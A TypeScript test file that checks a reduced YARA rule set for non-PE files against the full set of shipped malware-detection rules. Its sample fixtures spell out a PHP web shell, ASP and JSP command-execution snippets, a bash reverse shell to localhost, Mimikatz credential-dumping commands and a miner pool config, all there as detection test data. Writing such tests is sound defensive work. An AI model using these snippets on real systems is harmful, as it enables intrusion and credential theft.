// The reduced YARA rule set for non-PE files (a speed measure) must give exactly the full set's
// rule hits on such files, and must switch itself off when a shipped rule it was derived from changes.
import { readdirSync, readFileSync, statSync } from "node:fs";
import { compile, type RuleMatch } from "@litko/yara-x";
import { describe, expect, it } from "vitest";
import { YaraEngine } from "../../../shared/analysis/content/yara-engine.js";
import {
  needsFullRuleSet,
  nonPeRules,
  ruleBlocks,
} from "../../../shared/analysis/content/yara-non-pe-rules.js";
import { SHIPPED_YARA_RULES } from "../../../shared/analysis/content/yara-rules.js";

const utf16 = (s: string) => Buffer.from(s, "utf16le");
const pad = (s: string | Buffer) => Buffer.concat([Buffer.from(s), Buffer.alloc(200, 0x20)]);

/** Non-PE files over 128 bytes that hit (or nearly hit) every shipped rule, in ASCII and UTF-16. */
const SAMPLES: Buffer[] = [
  pad('{"donate-level": 1, "randomx": {}, "pools": [{"url": "stratum+tcp://127.0.0.1:3333"}]}'),
  pad("<?php system($_POST['c']); ?>"),
  pad('<%@ Page Language="C#" %> Request.Form["c"] ProcessStartInfo("cmd.exe")'),
  pad('<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
  pad("#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n"),
  pad('Invoke-Mimikatz -Command \'"privilege::debug" "sekurlsa::logonpasswords"\'\n'),
  pad(utf16('Invoke-Mimikatz "privilege::debug" "lsadump::sam"')),
  // the credential rule's PE-only strings outside a PE, with one Mimikatz command: no hit either way
  pad("MiniDumpWriteDump lsass.exe sekurlsa::logonpasswords"),
  pad(utf16("MiniDumpWriteDump lsass.exe OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread")),
  pad("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
];

/** A few real ELF executables of this machine, the bulk of what the reduced set scans. */
function realElfs(limit: number): Buffer[] {
  const out: Buffer[] = [];
  for (const name of readdirSync("/usr/bin").sort()) {
    const file = `/usr/bin/${name}`;
    const st = statSync(file, { throwIfNoEntry: false });
    if (!st?.isFile() || st.size > 2_000_000) continue;
    const bytes = readFileSync(file);
    if (bytes.subarray(0, 4).equals(Buffer.from("\x7fELF", "latin1"))) out.push(bytes);
    if (out.length === limit) break;
  }
  return out;
}

const ruleNames = (rules: ReturnType<typeof compile>, content: Buffer) =>
  rules
    .scan(content)
    .map((m: RuleMatch) => m.ruleIdentifier)
    .sort();

describe("the non-PE YARA rule set", () => {
  const reduced = nonPeRules(SHIPPED_YARA_RULES);

  it("is derived from the shipped rules as they are (update yara-non-pe-rules.ts when a reduced rule changes)", () => {
    expect(reduced).toBeDefined();
    expect(reduced).not.toContain("rule eicar_test_file");
    expect(reduced).not.toContain("rule windows_process_injection_tool");
    expect(reduced).not.toContain("MiniDumpWriteDump");
  });

  it("gives the full set's rule hits on every non-PE file over 128 bytes", () => {
    const full = compile(SHIPPED_YARA_RULES);
    const nonPe = compile(reduced!);
    const files = [...SAMPLES, ...realElfs(12)];
    let hits = 0;
    for (const content of files) {
      expect(needsFullRuleSet(content)).toBe(false);
      const expected = ruleNames(full, content);
      hits += expected.length;
      expect(ruleNames(nonPe, content)).toEqual(expected);
    }
    // the samples do hit: the comparison is not between two empty answers
    expect(hits).toBeGreaterThanOrEqual(6);
  });

  it("sends PE files and files of 128 bytes or less to the full set", () => {
    expect(needsFullRuleSet(Buffer.from("MZ" + " ".repeat(500)))).toBe(true);
    expect(needsFullRuleSet(Buffer.alloc(128, 0x41))).toBe(true);
    expect(needsFullRuleSet(Buffer.alloc(129, 0x41))).toBe(false);
    // a PE naming the injection APIs is still found through the engine
    const pe = Buffer.concat([
      Buffer.from("MZ"),
      Buffer.alloc(300),
      Buffer.from("OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread"),
    ]);
    expect(new YaraEngine().scan(pe).map((h) => h.rule)).toContain("yara/windows-process-injection");
  });

  it("switches itself off when a reduced rule's text changes or the rule is gone", () => {
    const blocks = ruleBlocks(SHIPPED_YARA_RULES);
    expect(blocks.map((b) => b.name)).toContain("windows_credential_dumping_tool");
    const edited = SHIPPED_YARA_RULES.replace('$mk5 = "privilege::debug"', '$mk5 = "privilege::backup"');
    expect(edited).not.toBe(SHIPPED_YARA_RULES);
    expect(nonPeRules(edited)).toBeUndefined();
    const without = blocks
      .filter((b) => b.name !== "eicar_test_file")
      .map((b) => b.text)
      .join("\n\n");
    expect(nonPeRules(without)).toBeUndefined();
    // a rule it does not know of is kept as it is
    const added = `${SHIPPED_YARA_RULES}\nrule extra_rule {\n  strings:\n    $a = "zzqx-extra"\n  condition:\n    $a\n}\n`;
    expect(nonPeRules(added)).toContain("rule extra_rule {");
  });
});
